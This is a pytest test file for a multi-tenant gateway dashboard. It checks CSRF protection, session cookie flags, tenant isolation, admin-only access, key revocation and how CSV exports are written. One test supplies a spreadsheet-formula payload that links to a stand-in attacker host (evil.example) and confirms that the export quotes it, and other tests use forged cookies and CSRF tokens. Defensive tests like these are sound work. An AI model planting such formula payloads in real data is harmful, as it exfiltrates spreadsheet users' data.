"""Dashboard sessions and data endpoints over HTTP: sign-in/out with CSRF, cookie flags, totals,
CSV, and no IDOR: tenant A's session can read nothing of tenant B's."""

from __future__ import annotations

import csv
import io
import re
import time
import uuid
from datetime import UTC, datetime
from pathlib import Path

import httpx
import pytest

from gateway.contracts import UsageRecord
from gateway.db import Database
from gateway.usage.pricing import PriceTable
from gateway.usage.writer import UsageWriter
from tests.conftest import ADMIN_KEY
from tests.gateway.dashboard_fixtures import DashEnv, dash, login  # noqa: F401

DATA_ENDPOINTS = ["summary", "limits", "export.csv", "requests", "export.csv?table=requests"]


@pytest.fixture
def a_client(dash: DashEnv):  # type: ignore[no-untyped-def]
    with httpx.Client(base_url=dash.url) as client:
        assert login(client, dash.a.key).status_code == 303
        yield client


def test_sign_in_sets_a_strict_httponly_cookie_and_needs_the_form_token(dash: DashEnv) -> None:
    with httpx.Client(base_url=dash.url) as client:
        assert client.get("/dashboard").headers["location"].endswith("/dashboard/login")
        response = login(client, dash.a.key)
        cookie = response.headers["set-cookie"].lower()
        assert "sy_session=" in cookie and "httponly" in cookie and "samesite=strict" in cookie
        assert dash.a.key not in response.headers["set-cookie"]
        assert client.get("/dashboard").status_code == 200
    with httpx.Client(base_url=dash.url) as client:
        client.get("/dashboard/login")
        assert client.post("/dashboard/login", data={"csrf": "forged", "api_key": dash.a.key}).status_code == 403
        assert "sy_session" not in client.cookies
    with httpx.Client(base_url=dash.url) as client:
        assert login(client, "sk-not-a-key").status_code == 401
        assert client.get("/dashboard/api/me").status_code == 401


def test_summary_totals_match_the_seeded_usage(a_client: httpx.Client, dash: DashEnv) -> None:
    me = a_client.get("/dashboard/api/me").json()
    assert me["role"] == "tenant" and me["tenant_id"] == dash.a.id
    data = a_client.get("/dashboard/api/summary", params={"bucket": "day"}).json()
    totals = data["totals"]
    assert totals["requests"] == dash.a.requests and totals["errors"] == dash.a.errors
    assert totals["prompt_tokens"] == dash.a.prompt_tokens and totals["completion_tokens"] == dash.a.completion_tokens
    assert totals["cost"] == pytest.approx(dash.a.cost)
    assert {k["key_id"] for k in data["by_key"]} == set(dash.a.key_ids)
    assert data["errors"][0]["error_type"] == "upstream_error" and data["latency_ms"]["p50"] is not None
    rows = list(csv.DictReader(io.StringIO(a_client.get("/dashboard/api/export.csv", params={"bucket": "day"}).text)))
    assert sum(int(r["requests"]) for r in rows) == dash.a.requests
    assert sum(int(r["total_tokens"]) for r in rows) == dash.a.prompt_tokens + dash.a.completion_tokens
    live = a_client.get("/dashboard/api/limits").json()
    assert live["limits"]["requests_per_minute"] == 600 and live["used"]["token_budget"] > 0
    assert a_client.get("/dashboard/api/summary", params={"start": "yesterday"}).json()["error"]["param"] == "start"


@pytest.mark.parametrize("endpoint", DATA_ENDPOINTS)
def test_tenant_session_cannot_read_another_tenant(a_client: httpx.Client, dash: DashEnv, endpoint: str) -> None:
    for other in (dash.b.id, dash.b.name, "ten_doesnotexist"):
        response = a_client.get(f"/dashboard/api/{endpoint}", params={"tenant_id": other})
        assert response.status_code == 403, (endpoint, other)
        assert dash.b.id not in response.text and "beta" not in response.text
    own = a_client.get(f"/dashboard/api/{endpoint}", params={"tenant_id": dash.a.id})
    assert own.status_code == 200 and dash.b.id not in own.text


@pytest.mark.parametrize("endpoint", ["tenants", "deployments", "overview"])
def test_admin_only_endpoints_refuse_tenants(a_client: httpx.Client, endpoint: str) -> None:
    assert a_client.get(f"/dashboard/api/{endpoint}").status_code == 403


def test_no_session_or_a_forged_cookie_reads_nothing(dash: DashEnv, a_client: httpx.Client) -> None:
    session = a_client.cookies["sy_session"]
    payload, _, sig = session.rpartition(".")
    for cookies in ({}, {"sy_session": payload + ".AAAA" + sig[4:]}, {"sy_session": "garbage"}):
        with httpx.Client(base_url=dash.url, cookies=cookies) as anon:
            for endpoint in [*DATA_ENDPOINTS, "tenants", "deployments", "overview", "me", "requests/x"]:
                assert anon.get(f"/dashboard/api/{endpoint}", params={"tenant_id": dash.b.id}).status_code == 401


def test_admin_switches_tenants_and_sees_deployments(dash: DashEnv) -> None:
    with httpx.Client(base_url=dash.url) as admin:
        assert login(admin, ADMIN_KEY).status_code == 303
        ids = {t["id"] for t in admin.get("/dashboard/api/tenants").json()["data"]}
        assert {dash.a.id, dash.b.id} <= ids
        for tenant in (dash.a, dash.b):
            totals = admin.get("/dashboard/api/summary", params={"tenant_id": tenant.id}).json()["totals"]
            assert totals["requests"] == tenant.requests
        assert admin.get("/dashboard/api/summary").status_code == 400
        assert admin.get("/dashboard/api/summary", params={"tenant_id": "ten_nope"}).status_code == 404
        deployment = admin.get("/dashboard/api/deployments").json()["data"][0]
        assert (deployment["state"], deployment["held_for_seconds"]) == ("healthy", 0)  # no upstream asked to wait


def test_revoking_the_key_ends_its_dashboard_session(dash: DashEnv) -> None:
    admin = {"authorization": f"Bearer {ADMIN_KEY}"}
    created = httpx.post(dash.url + "/admin/v1/keys", json={"tenant_id": dash.a.id}, headers=admin).json()
    with httpx.Client(base_url=dash.url) as client:
        assert login(client, created["key"]).status_code == 303
        assert client.get("/dashboard/api/summary").status_code == 200
        httpx.post(f"{dash.url}/admin/v1/keys/{created['id']}/revoke", headers=admin)
        assert client.get("/dashboard/api/summary").status_code == 401


def test_a_session_of_the_config_admin_key_ends_when_the_key_is_changed(dash: DashEnv, tmp_path: Path,
                                                                       fake_upstream_server) -> None:  # type: ignore[no-untyped-def]
    """The bootstrap admin key has no row to revoke: a restart with another key (or none) in the config
    ends the sessions signed in with the old one, though the session secret is the same."""
    from gateway.app import create_app
    from tests.conftest import gateway_settings
    from tests.support.servers import ServerThread

    def serve(admin_key: str | None, n: int) -> ServerThread:
        settings = gateway_settings(fake_upstream_server.url, auth={"admin_key": admin_key},
                                    database={"url": dash.db_url}, usage={"journal_dir": str(tmp_path / f"j{n}")},
                                    dashboard={"session_secret": "kept-across-restarts"})
        return ServerThread(create_app(settings)).start()

    old_key, new_key = "sk-admin-" + uuid.uuid4().hex, "sk-admin-" + uuid.uuid4().hex
    server = serve(old_key, 0)
    try:
        with httpx.Client(base_url=server.url) as client:
            assert login(client, old_key).status_code == 303
            cookie = client.cookies["sy_session"]
            assert client.get("/dashboard/api/me").json()["role"] == "admin"
    finally:
        server.stop()
    for n, (admin_key, status) in enumerate([(old_key, 200), (new_key, 401), (None, 401)], start=1):
        server = serve(admin_key, n)
        try:
            me = httpx.get(server.url + "/dashboard/api/me", cookies={"sy_session": cookie})
            assert me.status_code == status, (admin_key == old_key, me.text)
            if status == 401:
                assert "admin key" in me.json()["error"]["message"]
        finally:
            server.stop()


def test_logout_needs_the_csrf_token_and_ends_the_session(a_client: httpx.Client) -> None:
    assert a_client.post("/dashboard/logout", data={"csrf": "wrong"}).status_code == 403
    csrf = a_client.get("/dashboard/api/me").json()["csrf"]
    response = a_client.post("/dashboard/logout", data={"csrf": csrf})
    assert response.status_code == 303 and response.headers["location"].endswith("/dashboard/login")
    assert a_client.get("/dashboard/api/me").status_code == 401


def test_forged_tokens_with_non_ascii_characters_are_refused_not_500s(dash: DashEnv, a_client: httpx.Client) -> None:
    """A form token or session cookie holding a character beyond ASCII is a wrong token like any other
    (``hmac.compare_digest`` refuses to compare such strings: each was a 500)."""
    assert a_client.post("/dashboard/logout", data={"csrf": "\u00e9"}).status_code == 403
    assert a_client.get("/dashboard/api/me").status_code == 200  # still signed in
    with httpx.Client(base_url=dash.url) as client:
        client.get("/dashboard/login")
        response = client.post("/dashboard/login", data={"csrf": "\u00e9", "api_key": dash.a.key})
        assert response.status_code == 403 and "sy_session" not in client.cookies
    payload = a_client.cookies["sy_session"].rpartition(".")[0]
    for path in ("/dashboard/api/me", "/dashboard"):
        response = httpx.get(dash.url + path, headers=[(b"cookie", f"sy_session={payload}.\u00e9".encode("latin-1"))])
        assert response.status_code in (401, 303), (path, response.status_code)


def test_cookies_are_secure_behind_tls_and_pages_carry_security_headers(dash: DashEnv) -> None:
    """Behind a TLS-terminating proxy (X-Forwarded-Proto from a trusted address) every dashboard
    cookie is Secure, HttpOnly and SameSite=Strict without any setting; pages deny framing, set a
    CSP and nosniff."""
    with httpx.Client(base_url=dash.url, headers={"x-forwarded-proto": "https"}) as client:
        form = client.get("/dashboard/login")
        token = re.search(r'name="csrf" value="([^"]+)"', form.text).group(1)  # type: ignore[union-attr]
        signed_in = client.post("/dashboard/login", data={"csrf": token, "api_key": dash.a.key},
                                headers={"cookie": f"sy_login_csrf={token}"})  # a browser sends Secure cookies over TLS
        assert signed_in.status_code == 303, signed_in.text
        for response in (form, signed_in):
            cookie = response.headers["set-cookie"].lower()
            assert "secure" in cookie and "httponly" in cookie and "samesite=strict" in cookie, cookie
        assert form.headers["x-content-type-options"] == "nosniff"
        assert form.headers["x-frame-options"] == "DENY"
        assert "frame-ancestors 'none'" in form.headers["content-security-policy"]
    with httpx.Client(base_url=dash.url) as client:  # plain HTTP (local development): not Secure
        assert "secure" not in client.get("/dashboard/login").headers["set-cookie"].lower()


def test_bad_parameters_are_400s_naming_the_parameter(a_client: httpx.Client) -> None:
    for endpoint, params, param in (
        ("summary", {"range": "2w"}, "range"),
        ("summary", {"tz": "Mars/Olympus"}, "tz"),
        ("summary", {"bucket": "minute", "range": "30d"}, "bucket"),
        ("summary", {"start": "2026-02-01", "end": "2026-01-01"}, "start"),
        ("requests", {"status": "weird"}, "status"),
        ("requests", {"limit": "0"}, "limit"),
        ("requests", {"before": "not-a-cursor"}, "before"),
        ("export.csv", {"table": "everything"}, "table"),
    ):
        got = a_client.get(f"/dashboard/api/{endpoint}", params=params)
        assert got.status_code == 400, (endpoint, params, got.text)
        assert got.json()["error"]["param"] == param


def test_request_detail_is_the_tenants_own_only(a_client: httpx.Client, dash: DashEnv) -> None:
    mine = a_client.get("/dashboard/api/requests", params={"range": "7d", "limit": 3}).json()
    assert len(mine["data"]) == 3 and mine["next_before"] is not None
    assert {r["tenant_id"] for r in mine["data"]} == {dash.a.id}
    one = a_client.get(f"/dashboard/api/requests/{mine['data'][0]['request_id']}").json()
    assert one["request_id"] == mine["data"][0]["request_id"] and one["explanation"]
    assert one["service_tier"] is None  # a field of its own (the seeded answers named no tier)
    exported = a_client.get("/dashboard/api/export.csv", params={"table": "requests", "range": "7d"}).text
    assert "service_tier" in next(csv.reader(io.StringIO(exported)))
    with httpx.Client(base_url=dash.url) as admin:
        login(admin, ADMIN_KEY)
        theirs = admin.get("/dashboard/api/requests", params={"tenant_id": dash.b.id, "limit": 1}).json()["data"][0]
        overview = admin.get("/dashboard/api/overview", params={"range": "7d"}).json()
    missing = a_client.get(f"/dashboard/api/requests/{theirs['request_id']}")
    assert missing.status_code == 404 and dash.b.id not in missing.text
    assert {t["tenant_id"]: t["requests"] for t in overview["tenants"]} == {dash.a.id: dash.a.requests,
                                                                            dash.b.id: dash.b.requests}


async def _write_usage(dash: DashEnv, journal: Path, *records: UsageRecord) -> None:
    """Rows written straight into the dashboard's database, as the usage writer writes them."""
    db = Database.from_url(dash.db_url)
    writer = UsageWriter(db, PriceTable(), journal_dir=journal)
    for record in records:
        writer.record(record)
    assert await writer.flush()
    writer.journal.close()
    await db.dispose()


async def test_csv_exports_quote_a_key_name_or_tier_that_starts_a_formula(dash: DashEnv, tmp_path: Path) -> None:
    """A tenant names its keys; an upstream names the service tier: either may start a formula."""
    name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    async with httpx.AsyncClient(base_url=dash.url, headers={"authorization": f"Bearer {ADMIN_KEY}"}) as admin:
        key = (await admin.post("/admin/v1/keys", json={"tenant_id": dash.a.id, "name": name})).json()
    at = time.time() - 60 * 86400  # outside every range the other tests read
    await _write_usage(dash, tmp_path, UsageRecord(
        request_id=uuid.uuid4().hex, key_id=key["id"], tenant_id=dash.a.id, model="echo", deployment="d",
        provider="openai", endpoint="chat.completions", started_at=at, status=200, prompt_tokens=3,
        completion_tokens=2, cost=0.5, service_tier="@SUM(1+1)",
    ))  # fmt: skip
    day = datetime.fromtimestamp(at, UTC).date().isoformat()
    params = {"start": day, "end": day, "bucket": "day"}
    with httpx.Client(base_url=dash.url) as client:
        login(client, dash.a.key)
        by_key = client.get("/dashboard/api/export.csv", params={**params, "table": "by_key"}).text
        requests = client.get("/dashboard/api/export.csv", params={**params, "table": "requests"}).text
    assert [(r["key_name"], r["requests"]) for r in csv.DictReader(io.StringIO(by_key))] == [("'" + name, "1")]
    assert [r["service_tier"] for r in csv.DictReader(io.StringIO(requests))] == ["'@SUM(1+1)"]


async def test_the_providers_request_id_is_the_operators_not_the_tenants(dash: DashEnv, tmp_path: Path) -> None:
    """An admin's request log, detail and CSV carry ``upstream_request_id`` (it identifies the
    operator's provider account's traffic); the tenant's own show neither the column nor the id."""
    at = time.time() - 64 * 86400  # a day of its own, outside every range the other tests read
    rid = uuid.uuid4().hex
    await _write_usage(dash, tmp_path, UsageRecord(
        request_id=rid, key_id=dash.a.key_ids[0], tenant_id=dash.a.id, model="echo", deployment="d", provider="openai",
        endpoint="chat.completions", started_at=at, status=200, upstream_request_id="req_provider_7",
    ))  # fmt: skip
    day = datetime.fromtimestamp(at, UTC).date().isoformat()
    params = {"start": day, "end": day, "tenant_id": dash.a.id}
    seen = {}
    for who in (dash.a.key, ADMIN_KEY):
        with httpx.Client(base_url=dash.url) as client:
            login(client, who)
            listed = client.get("/dashboard/api/requests", params=params).json()["data"]
            detail = client.get(f"/dashboard/api/requests/{rid}", params={"tenant_id": dash.a.id}).json()
            exported = client.get("/dashboard/api/export.csv", params={**params, "table": "requests"}).text
        seen[who] = [row.get("upstream_request_id", "absent") for row in (*listed, detail,
                                                                            *csv.DictReader(io.StringIO(exported)))]
        if who == dash.a.key:
            assert "req_provider_7" not in str(listed) + str(detail) + exported
    assert seen == {dash.a.key: ["absent"] * 3, ADMIN_KEY: ["req_provider_7"] * 3}


async def test_request_costs_carry_no_floating_noise(dash: DashEnv, tmp_path: Path) -> None:
    """A cost as its arithmetic left it (0.1 + 0.2) reads 0.3 in the log, the detail and the CSV;
    a tiny one is written in the CSV in plain decimals (0.00000165), never with an exponent."""
    at = time.time() - 62 * 86400  # a day of its own, outside every range the other tests read
    await _write_usage(dash, tmp_path, *(UsageRecord(
        request_id=uuid.uuid4().hex, key_id=dash.a.key_ids[0], tenant_id=dash.a.id, model="echo",
        deployment="d", provider="openai", endpoint="chat.completions", started_at=at, status=200,
        prompt_tokens=3, completion_tokens=2, cost=cost,
    ) for cost in (0.1 + 0.2, (3 * 0.15 + 2 * 0.6) / 1e6)))  # fmt: skip
    day = datetime.fromtimestamp(at, UTC).date().isoformat()
    params = {"start": day, "end": day, "tz": "UTC"}
    with httpx.Client(base_url=dash.url) as client:
        login(client, dash.a.key)
        log = client.get("/dashboard/api/requests", params=params).json()["data"]
        detail = client.get(f"/dashboard/api/requests/{log[0]['request_id']}").json()
        exported = client.get("/dashboard/api/export.csv", params={**params, "table": "requests"}).text
    assert sorted(r["cost"] for r in log) == [1.65e-06, 0.3] and detail["cost"] in (1.65e-06, 0.3)
    assert sorted(r["cost"] for r in csv.DictReader(io.StringIO(exported))) == ["0.00000165", "0.3"]
